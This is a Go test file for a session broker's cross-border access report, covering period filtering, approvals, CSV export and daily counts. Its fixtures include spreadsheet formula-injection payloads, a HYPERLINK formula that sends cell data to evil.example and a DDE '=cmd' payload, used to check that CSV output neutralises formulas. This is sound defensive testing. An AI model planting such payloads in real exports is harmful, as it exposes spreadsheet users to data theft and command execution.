package broker_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/sekisho/sekisho/broker"
	"github.com/sekisho/sekisho/broker/sqlitestore"
)

// The report's period: the first week of November 2026, UTC.
var (
	reportFrom = time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC)
	reportTo   = time.Date(2026, 11, 8, 0, 0, 0, 0, time.UTC)
)

// injected is a technician's reason that a spreadsheet would run as a
// formula if the CSV gave it as is.
const injected = `=HYPERLINK("http://evil.example/?"&A1,"click")`

// reportTargets is the current configuration: web-sg-01 was removed since
// its sessions.
func reportTargets(name string) (*broker.Target, bool) {
	t, ok := map[string]*broker.Target{
		"db-jp-01":  {Name: "db-jp-01", Residency: "JP", Data: []string{"pii", "messages"}},
		"app-sg-01": {Name: "app-sg-01", Residency: "SG", Data: []string{"pii"}},
	}[name]
	return t, ok
}

type reportSession struct {
	rec broker.SessionRecord
	end *broker.SessionEnd
}

// reportStore opens a SQLite store in t.TempDir() holding two approved
// requests and sessions in, around and outside the report's period;
// moderated are those whose rule asked for moderators.
func reportStore(t *testing.T) *sqlitestore.Store {
	t.Helper()
	ctx := context.Background()
	s, err := sqlitestore.Open(ctx, filepath.Join(t.TempDir(), "sekisho.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { s.Close() })

	at := func(day, h, m int) time.Time { return time.Date(2026, 11, day, h, m, 0, 0, time.UTC) }
	for _, r := range []broker.AccessRequest{
		{Technician: "li", Affiliate: "ops-cn", AffiliateCountry: "CN", Target: "db-jp-01", Rule: "pii-abroad-approved",
			Reason: injected, Duration: time.Hour, State: broker.RequestApproved, Needed: 2, Created: at(2, 8, 55),
			Approvals: []broker.RequestApproval{
				{By: "sato", Affiliate: "ops-jp", At: at(2, 8, 57)},
				{By: "-tanaka", Affiliate: "ops-jp", Comment: "ok", At: at(2, 8, 58)},
			},
			GrantStart: at(2, 8, 58), GrantEnd: at(2, 9, 58)},
		{Technician: "wei", Affiliate: "ops-cn", AffiliateCountry: "CN", Target: "app-sg-01", Rule: "sg-approved",
			Reason: "rotate logs, ticket 7", Duration: time.Hour, State: broker.RequestApproved, Needed: 1, Created: at(7, 23, 0),
			Approvals:  []broker.RequestApproval{{By: "tan", Affiliate: "ops-sg", At: at(7, 23, 5)}},
			GrantStart: at(7, 23, 5), GrantEnd: at(8, 0, 5)},
	} {
		if _, err := s.CreateRequest(ctx, r); err != nil {
			t.Fatal(err)
		}
	}

	session := func(id, tech, aff, country, target, residency string, cross bool, request int64, started time.Time) broker.SessionRecord {
		return broker.SessionRecord{
			ID: id, Technician: tech, Affiliate: aff, AffiliateCountry: country, Source: "198.51.100.9:40022", SourceCountry: country,
			Target: target, TargetAddress: "10.0.0.1:22", Residency: residency, Login: "admin", CrossBorder: cross,
			Rule: "rule-of-" + id, Trace: "[]", StartedAt: started, Recording: "2026/11/" + id + ".cast", Request: request,
		}
	}
	moderated := map[string]bool{"s-before": true, "s-domestic": true, "s-grant-1": true, "s-last": true}
	for _, rs := range []reportSession{
		// A second before the period: left out, though it ended inside it.
		{session("s-before", "li", "ops-cn", "CN", "db-jp-01", "JP", true, 0, reportFrom.Add(-time.Second)),
			&broker.SessionEnd{At: reportFrom.Add(time.Hour), Reason: "client closed"}},
		// At the start of the period, allowed without a request.
		{session("s-first", "li", "ops-cn", "CN", "db-jp-01", "JP", true, 0, reportFrom),
			&broker.SessionEnd{At: reportFrom.Add(10 * time.Minute), BytesIn: 120, BytesOut: 4096, Reason: "client closed"}},
		// Domestic: never in the report.
		{session("s-domestic", "aiko", "ops-jp", "JP", "db-jp-01", "JP", false, 0, at(2, 9, 30)), nil},
		// Two sessions under one grant.
		{session("s-grant-1", "li", "ops-cn", "CN", "db-jp-01", "JP", true, 1, at(2, 9, 0)),
			&broker.SessionEnd{At: at(2, 9, 20), BytesIn: 10, BytesOut: 20, Reason: "grant ended"}},
		{session("s-grant-2", "li", "ops-cn", "CN", "db-jp-01", "JP", true, 1, at(2, 9, 40)), nil},
		// To a target no longer configured.
		{session("s-gone", "wei", "ops-cn", "CN", "web-sg-01", "SG", true, 0, at(3, 12, 0)),
			&broker.SessionEnd{At: at(3, 12, 1), Reason: "=cmd|' /C calc'!A0"}},
		// Started in the last nanosecond of the period, ended after it.
		{session("s-last", "wei", "ops-cn", "CN", "app-sg-01", "SG", true, 2, reportTo.Add(-time.Nanosecond)),
			&broker.SessionEnd{At: reportTo.Add(time.Hour), Reason: "client closed"}},
		// At the end of the period: the next period's.
		{session("s-after", "wei", "ops-cn", "CN", "app-sg-01", "SG", true, 2, reportTo), nil},
	} {
		rs.rec.Moderated = moderated[rs.rec.ID]
		if err := s.StartSession(ctx, &rs.rec); err != nil {
			t.Fatal(err)
		}
		if rs.end != nil {
			if err := s.EndSession(ctx, rs.rec.ID, *rs.end); err != nil {
				t.Fatal(err)
			}
		}
	}
	return s
}

func rowSessions(rows []broker.CrossBorderRow) []string {
	out := []string{}
	for _, r := range rows {
		out = append(out, r.Session)
	}
	return out
}

func TestBuildCrossBorderReport(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	s := reportStore(t)

	tests := []struct {
		name         string
		from, to     time.Time
		scope        []string
		sessions     []string
		byAffiliate  map[string]int
		byResidency  map[string]int
		unapproved   int
		moderated    int
		unmoderated  int
		wantApproved map[string][]string // session: approvers
	}{
		{
			name: "every residency", from: reportFrom, to: reportTo, scope: nil,
			sessions:    []string{"s-first", "s-grant-1", "s-grant-2", "s-gone", "s-last"},
			byAffiliate: map[string]int{"ops-cn": 5},
			byResidency: map[string]int{"JP": 3, "SG": 2},
			unapproved:  2,
			moderated:   2,
			unmoderated: 3,
			wantApproved: map[string][]string{
				"s-first": nil, "s-grant-1": {"sato", "-tanaka"}, "s-grant-2": {"sato", "-tanaka"}, "s-gone": nil, "s-last": {"tan"},
			},
		},
		{
			name: "a reviewer of SG", from: reportFrom, to: reportTo, scope: []string{"SG"},
			sessions:     []string{"s-gone", "s-last"},
			byAffiliate:  map[string]int{"ops-cn": 2},
			byResidency:  map[string]int{"SG": 2},
			unapproved:   1,
			moderated:    1,
			unmoderated:  1,
			wantApproved: map[string][]string{"s-gone": nil, "s-last": {"tan"}},
		},
		{
			name: "a reviewer of no residency", from: reportFrom, to: reportTo, scope: []string{},
			sessions: []string{}, byAffiliate: map[string]int{}, byResidency: map[string]int{},
		},
		{
			name: "the next period", from: reportTo, to: reportTo.AddDate(0, 0, 7), scope: nil,
			sessions:     []string{"s-after"},
			byAffiliate:  map[string]int{"ops-cn": 1},
			byResidency:  map[string]int{"SG": 1},
			unmoderated:  1,
			wantApproved: map[string][]string{"s-after": {"tan"}},
		},
		{
			name: "times in another zone", from: reportFrom.In(time.FixedZone("JST", 9*3600)), to: reportFrom.Add(time.Second), scope: nil,
			sessions:     []string{"s-first"},
			byAffiliate:  map[string]int{"ops-cn": 1},
			byResidency:  map[string]int{"JP": 1},
			unapproved:   1,
			unmoderated:  1,
			wantApproved: map[string][]string{"s-first": nil},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r, err := broker.BuildCrossBorderReport(ctx, s, reportTargets, tt.from, tt.to, tt.scope)
			if err != nil {
				t.Fatal(err)
			}
			if got := rowSessions(r.Rows); !reflect.DeepEqual(got, tt.sessions) {
				t.Errorf("sessions %v, want %v", got, tt.sessions)
			}
			if !reflect.DeepEqual(r.ByAffiliate, tt.byAffiliate) || !reflect.DeepEqual(r.ByResidency, tt.byResidency) {
				t.Errorf("by affiliate %v, by residency %v; want %v, %v", r.ByAffiliate, r.ByResidency, tt.byAffiliate, tt.byResidency)
			}
			if r.Unapproved != tt.unapproved {
				t.Errorf("unapproved %d, want %d", r.Unapproved, tt.unapproved)
			}
			if r.Moderated != tt.moderated || r.Unmoderated != tt.unmoderated {
				t.Errorf("moderated %d, unmoderated %d; want %d, %d", r.Moderated, r.Unmoderated, tt.moderated, tt.unmoderated)
			}
			for _, row := range r.Rows {
				if want := tt.wantApproved[row.Session]; !reflect.DeepEqual(row.ApprovedBy, want) {
					t.Errorf("%s approved by %q, want %q", row.Session, row.ApprovedBy, want)
				}
			}
			if !r.From.Equal(tt.from) || r.From.Location() != time.UTC || !r.To.Equal(tt.to) {
				t.Errorf("period %v to %v, want %v to %v in UTC", r.From, r.To, tt.from, tt.to)
			}
			if (r.Residencies == nil) != (tt.scope == nil) {
				t.Errorf("scope %#v, want %#v", r.Residencies, tt.scope)
			}
		})
	}
}

func TestCrossBorderRow(t *testing.T) {
	t.Parallel()
	r, err := broker.BuildCrossBorderReport(context.Background(), reportStore(t), reportTargets, reportFrom, reportTo, nil)
	if err != nil {
		t.Fatal(err)
	}
	rows := map[string]broker.CrossBorderRow{}
	for _, row := range r.Rows {
		rows[row.Session] = row
	}
	want := broker.CrossBorderRow{
		Session: "s-grant-1", Technician: "li", Affiliate: "ops-cn", AffiliateCountry: "CN", Source: "198.51.100.9:40022", SourceCountry: "CN",
		Target: "db-jp-01", Residency: "JP", Data: []string{"pii", "messages"}, Rule: "rule-of-s-grant-1", Request: 1, Reason: injected,
		ApprovedBy: []string{"sato", "-tanaka"}, Started: time.Date(2026, 11, 2, 9, 0, 0, 0, time.UTC), Ended: time.Date(2026, 11, 2, 9, 20, 0, 0, time.UTC),
		EndReason: "grant ended", BytesIn: 10, BytesOut: 20, Recording: "2026/11/s-grant-1.cast", Moderated: true,
	}
	if got := rows["s-grant-1"]; !reflect.DeepEqual(got, want) {
		t.Errorf("row\n got %+v\nwant %+v", got, want)
	}
	if got := rows["s-gone"].Data; got != nil {
		t.Errorf("a target no longer configured shows data classes %q", got)
	}
	if rows["s-grant-2"].Moderated {
		t.Error("a session whose rule asked for no moderator reads as moderated")
	}
	if got := rows["s-grant-2"]; !got.Ended.IsZero() || got.EndReason != "" {
		t.Errorf("a live session shows an end: %v %q", got.Ended, got.EndReason)
	}
}

func TestCrossBorderReportErrors(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	s := reportStore(t)
	if _, err := broker.BuildCrossBorderReport(ctx, s, reportTargets, reportTo, reportFrom, nil); err == nil || !strings.Contains(err.Error(), "start must come before the end") {
		t.Errorf("reversed period: %v", err)
	}
	if _, err := broker.BuildCrossBorderReport(ctx, s, reportTargets, reportFrom, reportFrom, nil); err == nil {
		t.Error("an empty period gave a report")
	}
	// A session naming a request the store does not hold.
	rec := broker.SessionRecord{ID: "s-orphan", Technician: "li", Affiliate: "ops-cn", AffiliateCountry: "CN", Target: "db-jp-01",
		Residency: "JP", CrossBorder: true, Trace: "[]", StartedAt: reportFrom.Add(time.Hour), Request: 99}
	if err := s.StartSession(ctx, &rec); err != nil {
		t.Fatal(err)
	}
	_, err := broker.BuildCrossBorderReport(ctx, s, reportTargets, reportFrom, reportTo, nil)
	if !errors.Is(err, broker.ErrNotFound) || !strings.Contains(err.Error(), "session s-orphan") {
		t.Errorf("a missing request: %v, want ErrNotFound naming the session", err)
	}
}

func TestCrossBorderReportCSV(t *testing.T) {
	t.Parallel()
	r, err := broker.BuildCrossBorderReport(context.Background(), reportStore(t), reportTargets, reportFrom, reportTo, nil)
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := r.WriteCSV(&b); err != nil {
		t.Fatal(err)
	}
	const golden = `"session","technician","affiliate","affiliate_country","source","source_country","target","residency","data","rule","request","reason","approved_by","started","ended","end_reason","bytes_in","bytes_out","recording","recording_complete","moderated"
"s-first","li","ops-cn","CN","198.51.100.9:40022","CN","db-jp-01","JP","pii;messages","rule-of-s-first","","","","2026-11-01T00:00:00Z","2026-11-01T00:10:00Z","client closed","120","4096","2026/11/s-first.cast","false","false"
"s-grant-1","li","ops-cn","CN","198.51.100.9:40022","CN","db-jp-01","JP","pii;messages","rule-of-s-grant-1","1","'=HYPERLINK(""http://evil.example/?""&A1,""click"")","sato;-tanaka","2026-11-02T09:00:00Z","2026-11-02T09:20:00Z","grant ended","10","20","2026/11/s-grant-1.cast","false","true"
"s-grant-2","li","ops-cn","CN","198.51.100.9:40022","CN","db-jp-01","JP","pii;messages","rule-of-s-grant-2","1","'=HYPERLINK(""http://evil.example/?""&A1,""click"")","sato;-tanaka","2026-11-02T09:40:00Z","","","0","0","2026/11/s-grant-2.cast","false","false"
"s-gone","wei","ops-cn","CN","198.51.100.9:40022","CN","web-sg-01","SG","","rule-of-s-gone","","","","2026-11-03T12:00:00Z","2026-11-03T12:01:00Z","'=cmd|' /C calc'!A0","0","0","2026/11/s-gone.cast","false","false"
"s-last","wei","ops-cn","CN","198.51.100.9:40022","CN","app-sg-01","SG","pii","rule-of-s-last","2","rotate logs, ticket 7","tan","2026-11-07T23:59:59Z","2026-11-08T01:00:00Z","client closed","0","0","2026/11/s-last.cast","false","true"
`
	if got := b.String(); got != golden {
		t.Errorf("CSV\n got:\n%s\nwant:\n%s", got, golden)
	}
	// Any CSV reader reads the same cells back, the quote included.
	records, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if got := records[2][11]; got != "'"+injected {
		t.Errorf("reason cell read back as %q", got)
	}
	// The column added last stays last, after the columns before it.
	if got := records[0][len(records[0])-1]; got != "moderated" || len(records[0]) != 21 {
		t.Errorf("header ends with %q after %d columns, want moderated as the 21st", got, len(records[0]))
	}
}

func TestCSVNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	tests := []struct {
		in, want string
	}{
		{"=1+2", `"'=1+2"`},
		{"+1", `"'+1"`},
		{"-1", `"'-1"`},
		{"@SUM(A1)", `"'@SUM(A1)"`},
		{"\tx", "\"'\tx\""},
		{"\rx", "\"'\rx\""},
		{"a=1", `"a=1"`},
		{" =1", `" =1"`},
		{`say "hi";=1`, `"say ""hi"";=1"`},
		{"", `""`},
	}
	for _, tt := range tests {
		r := broker.CrossBorderReport{Rows: []broker.CrossBorderRow{{Session: "s", Reason: tt.in}}}
		var b bytes.Buffer
		if err := r.WriteCSV(&b); err != nil {
			t.Fatal(err)
		}
		line := strings.SplitN(b.String(), "\n", 2)[1]
		cells := strings.Split(line, `","`)
		// The reason is the 12th cell; split only works here because
		// no test input holds a quote followed by a comma.
		if got := `"` + cells[11] + `"`; got != tt.want {
			t.Errorf("reason %q written as %s, want %s", tt.in, got, tt.want)
		}
	}
}

func TestCrossBorderDaily(t *testing.T) {
	t.Parallel()
	day := func(d int) time.Time { return time.Date(2026, 11, d, 0, 0, 0, 0, time.UTC) }
	jst := time.FixedZone("JST", 9*3600)
	r := broker.CrossBorderReport{Rows: []broker.CrossBorderRow{
		{Session: "a", Affiliate: "ops-vn", Residency: "JP", Started: day(2).Add(time.Hour)},
		{Session: "b", Affiliate: "ops-cn", Residency: "SG", Started: day(2).Add(23 * time.Hour)},
		{Session: "c", Affiliate: "ops-cn", Residency: "JP", Started: day(2).Add(2 * time.Hour)},
		{Session: "d", Affiliate: "ops-cn", Residency: "JP", Started: day(2).Add(3 * time.Hour)},
		// 08:00 on the 3rd in Japan is the 2nd in UTC.
		{Session: "e", Affiliate: "ops-cn", Residency: "JP", Started: time.Date(2026, 11, 3, 8, 0, 0, 0, jst)},
		{Session: "f", Affiliate: "ops-cn", Residency: "JP", Started: day(1)},
	}}
	want := []broker.DailyCount{
		{Day: day(1), Affiliate: "ops-cn", Residency: "JP", Sessions: 1},
		{Day: day(2), Affiliate: "ops-cn", Residency: "JP", Sessions: 3},
		{Day: day(2), Affiliate: "ops-cn", Residency: "SG", Sessions: 1},
		{Day: day(2), Affiliate: "ops-vn", Residency: "JP", Sessions: 1},
	}
	if got := r.Daily(); !reflect.DeepEqual(got, want) {
		t.Errorf("Daily\n got %v\nwant %v", got, want)
	}
	if got := (broker.CrossBorderReport{}).Daily(); len(got) != 0 {
		t.Errorf("Daily of an empty report: %v", got)
	}
}
